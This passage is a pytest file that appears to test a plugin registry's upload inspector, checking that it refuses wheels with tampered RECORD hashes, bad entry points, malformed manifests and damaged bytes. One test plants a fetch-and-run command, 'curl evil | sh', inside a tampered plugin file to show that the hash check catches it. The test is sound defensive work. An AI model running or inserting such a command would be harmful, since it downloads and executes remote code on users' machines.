    record = zipfile.ZipFile(io.BytesIO(data)).read(f"{DIST_INFO}/RECORD")
    rejection = refused(WHEEL, zip_bytes([*files.items(), ("tercel_plugin_x/extra.py", b""),
                                          (f"{DIST_INFO}/RECORD", record)]))
    assert str(rejection) == (f"{WHEEL}: member 'tercel_plugin_x/extra.py' is not listed in "
                              f"{DIST_INFO}/RECORD (every file of a wheel is)")
    assert rejection.reason == "archive"


def test_a_member_changed_after_the_build_is_refused() -> None:
    files = wheel_files()
    record = zipfile.ZipFile(io.BytesIO(make_wheel())).read(f"{DIST_INFO}/RECORD")
    files["tercel_plugin_x/plugin.py"] = b"import os; os.system('curl evil | sh')\n"
    rejection = refused(WHEEL, zip_bytes([*files.items(), (f"{DIST_INFO}/RECORD", record)]))
    assert str(rejection) == (f"{WHEEL}: member 'tercel_plugin_x/plugin.py' does not have the "
                              f"sha256 {DIST_INFO}/RECORD lists (was the wheel changed after it was "
                              "built?)")
    assert rejection.reason == "archive"


@pytest.mark.parametrize(
    ("line", "says", "reason"),
    [
        ("tercel_plugin_x/__init__.py,md5=abc,25",
         f"{DIST_INFO}/RECORD lists 'tercel_plugin_x/__init__.py' with a md5 hash; the registry "
         "checks sha256, as build backends write it", "archive"),
        ("tercel_plugin_x/__init__.py,,",
         f"{DIST_INFO}/RECORD lists 'tercel_plugin_x/__init__.py' without a hash; the registry "
         "checks sha256, as build backends write it", "archive"),
        ("tercel_plugin_x/__init__.py", f"{DIST_INFO}/RECORD line 1 is not 'path,hash,size'",
         "metadata"),
    ],
)
def test_a_record_the_registry_cannot_check_is_refused(line: str, says: str, reason: str) -> None:
    record = zipfile.ZipFile(io.BytesIO(make_wheel())).read(f"{DIST_INFO}/RECORD").decode()
    record = line + "\n" + record.split("\n", 1)[1]  # replaces __init__.py's line
    rejection = refused(WHEEL, make_wheel({f"{DIST_INFO}/RECORD": record}))
    assert str(rejection) == f"{WHEEL}: {says}"
    assert rejection.reason == reason


# ------------------------------------------------------------------------------- plugin


def test_a_wheel_without_an_entry_point_is_not_a_plugin() -> None:
    rejection = refused(WHEEL, make_wheel({f"{DIST_INFO}/entry_points.txt": None}))
    assert str(rejection) == (
        f"{WHEEL}: is not a tercel plugin: it has no {DIST_INFO}/entry_points.txt, so no "
        '[tercel.plugins] entry point; declare it in pyproject.toml: [project.entry-points.'
        '"tercel.plugins"] my_plugin = "tercel_plugin_my.plugin"'
    )
    assert rejection.reason == "not-a-plugin"
    other = "[console_scripts]\nx = tercel_plugin_x.cli:main\n"
    rejection = refused(WHEEL, make_wheel({f"{DIST_INFO}/entry_points.txt": other}))
    assert str(rejection).startswith(
        f"{WHEEL}: is not a tercel plugin: {DIST_INFO}/entry_points.txt has no [tercel.plugins] "
        "entry point; declare it in pyproject.toml")
    assert rejection.reason == "not-a-plugin"


@pytest.mark.parametrize(
    ("entry_points", "says"),
    [
        ("[tercel.plugins]\nx = tercel_plugin_x.plugin\ny = tercel_plugin_x.other\n",
         f"{DIST_INFO}/entry_points.txt declares 2 [tercel.plugins] entry points (x, y); a plugin "
         "distribution declares exactly one"),
        ("[tercel.plugins]\nx = 1st.module\n",
         f"{DIST_INFO}/entry_points.txt: the [tercel.plugins] entry point x = '1st.module' does "
         "not name a module"),
        ("[tercel.plugins]\nx = tercel_plugin_z.plugin\n",
         "is not a tercel plugin: its entry point module 'tercel_plugin_z.plugin' needs the package "
         "'tercel_plugin_z', which is not in the wheel"),
        ("[tercel.plugins]\nx = tercel_plugin_x.hooks:impl\n",
         "is not a tercel plugin: its entry point module 'tercel_plugin_x.hooks' is not in the "
         "wheel (no tercel_plugin_x/hooks.py or tercel_plugin_x/hooks/__init__.py)"),
    ],
)
def test_a_wheel_with_a_wrong_entry_point_is_not_a_plugin(entry_points: str, says: str) -> None:
    rejection = refused(WHEEL, make_wheel({f"{DIST_INFO}/entry_points.txt": entry_points}))
    assert str(rejection) == f"{WHEEL}: {says}"
    assert rejection.reason == "not-a-plugin"


def test_a_single_module_plugin_is_told_to_be_a_package() -> None:
    data = make_wheel({f"{DIST_INFO}/entry_points.txt": "[tercel.plugins]\nx = tercel_x\n",
                       "tercel_x.py": ""})
    rejection = refused(WHEEL, data)
    assert str(rejection).endswith("which is not in the wheel (it is a single module; a plugin is "
                                   "a package, holding its manifest)")


MANIFEST_PATH = "tercel_plugin_x/tercel-manifest.json"
REGENERATE = "generate it before building: python -m tercel_sdk.manifest tercel_plugin_x.plugin --write"


@pytest.mark.parametrize(
    ("manifest", "says"),
    [
        (None, f"has no {MANIFEST_PATH}: a plugin ships the manifest of its types in its package; "
               f"{REGENERATE}"),
        ("{'manifestVersion': 1}", f"{MANIFEST_PATH} is not valid JSON (Expecting property name "
                                   f"enclosed in double quotes: line 1 column 2 (char 1)); {REGENERATE}"),
        ("[1, 2]", f"{MANIFEST_PATH} is a JSON array, not an object; {REGENERATE}"),
        (b"\xff\xfe{}", f"{MANIFEST_PATH} is not UTF-8 (byte 0 is b'\\xff'); {REGENERATE}"),
        ({**MANIFEST, "manifestVersion": 2},
         f"{MANIFEST_PATH} has manifestVersion 2; the registry reads version 1; {REGENERATE}"),
        ({**MANIFEST, "manifestVersion": True},
         f"{MANIFEST_PATH} has manifestVersion True; the registry reads version 1; {REGENERATE}"),
        ({k: v for k, v in MANIFEST.items() if k != "types"},
         f"{MANIFEST_PATH} has no 'types' list; {REGENERATE}"),
        ({**MANIFEST, "types": [{"type": "io.tercel.x.Hello"}]},
         f"{MANIFEST_PATH} types[0] has no 'kind'; {REGENERATE}"),
        ({**MANIFEST, "distribution": "tercel-plugin-y"},
         f"{MANIFEST_PATH} was generated for distribution 'tercel-plugin-y', not tercel-plugin-x; "
         f"{REGENERATE}"),
        ({**MANIFEST, "version": "0.9.0"},
         f"{MANIFEST_PATH} was generated for version '0.9.0', not 1.0.0; {REGENERATE}"),
        ({**MANIFEST, "module": "tercel_plugin_x.old"},
         f"{MANIFEST_PATH} was generated for module 'tercel_plugin_x.old', but the entry point is "
         f"'tercel_plugin_x.plugin'; {REGENERATE}"),
    ],
)
def test_a_missing_or_wrong_manifest_is_refused(manifest: object, says: str) -> None:
    content = manifest if manifest is None or isinstance(manifest, (str, bytes)) else json.dumps(manifest)
    rejection = refused(WHEEL, make_wheel({MANIFEST_PATH: content}))  # type: ignore[dict-item]
    assert str(rejection) == f"{WHEEL}: {says}"
    assert rejection.reason == "manifest"


def test_a_manifest_without_distribution_and_version_is_accepted() -> None:
    manifest = {**MANIFEST, "distribution": "", "version": ""}
    del manifest["module"]
    assert inspect_upload(WHEEL, make_wheel({MANIFEST_PATH: json.dumps(manifest)})).manifest == manifest


def test_a_manifest_over_its_limit_is_refused() -> None:
    size = len(wheel_files()[MANIFEST_PATH])
    rejection = refused(WHEEL, make_wheel(), limits=Limits(max_manifest=100))
    assert str(rejection) == f"{WHEEL}: {MANIFEST_PATH} is {size:,} bytes; the limit is 100 bytes"
    assert rejection.reason == "size"


def test_a_plugin_without_an_sdk_range_is_refused() -> None:
    metadata = METADATA.replace("Requires-Dist: tercel-plugin-sdk (>= 0.1, < 0.2)\n", "")
    rejection = refused(WHEEL, make_wheel({f"{DIST_INFO}/METADATA": metadata}))
    assert str(rejection) == (f"{WHEEL}: does not declare the tercel-plugin-sdk versions it works "
                              "with: a plugin must; add a dependency such as "
                              "'tercel-plugin-sdk>=0.1,<0.2'")
    assert rejection.reason == "sdk"
    metadata = METADATA.replace("tercel-plugin-sdk (>= 0.1, < 0.2)", "Tercel_Plugin.SDK")
    rejection = refused(WHEEL, make_wheel({f"{DIST_INFO}/METADATA": metadata}))
    assert str(rejection) == (f"{WHEEL}: requires tercel-plugin-sdk without a version range: a "
                              "plugin declares the SDK versions it works with, such as "
                              "'tercel-plugin-sdk>=0.1,<0.2'")
    assert rejection.reason == "sdk"


def test_the_sdk_requirement_ignores_markers() -> None:
    metadata = METADATA.replace("tercel-plugin-sdk (>= 0.1, < 0.2)",
                                "tercel-plugin-sdk[host]~=0.1.2 ; python_version >= '3.11'")
    inspection = inspect_upload(WHEEL, make_wheel({f"{DIST_INFO}/METADATA": metadata}),
                                sdk_version="0.1.0")
    assert (inspection.sdk_requirement, inspection.sdk_compatible) == ("~=0.1.2", False)


# ------------------------------------------------------------------------------- robustness


def test_a_rejection_survives_pickling() -> None:
    rejection = pickle.loads(pickle.dumps(UploadRejected("x.whl: no", "archive")))
    assert (str(rejection), rejection.reason) == ("x.whl: no", "archive")


@pytest.mark.parametrize(("filename", "build"), [(WHEEL, make_wheel), (SDIST, make_sdist)])
def test_damaged_uploads_are_refused_never_crash(filename: str, build: object) -> None:
    """Random flips and cuts: an Inspection or an UploadRejected, never another exception."""
    original = build()  # type: ignore[operator]
    rng = random.Random(filename)
    reasons = set()
    for _ in range(250):
        data = bytearray(original)
        if rng.random() < 0.2:
            data = data[: rng.randrange(len(data))]
        else:
            for _ in range(rng.randint(1, 4)):
                data[rng.randrange(len(data))] = rng.randrange(256)
        try:
            inspect_upload(filename, bytes(data))
        except UploadRejected as exc:
            assert str(exc).startswith(f"{filename}: ")
            reasons.add(exc.reason)
    assert reasons <= {"archive", "metadata", "mismatch", "not-a-plugin", "manifest", "path",
                       "bomb", "sdk", "size"}
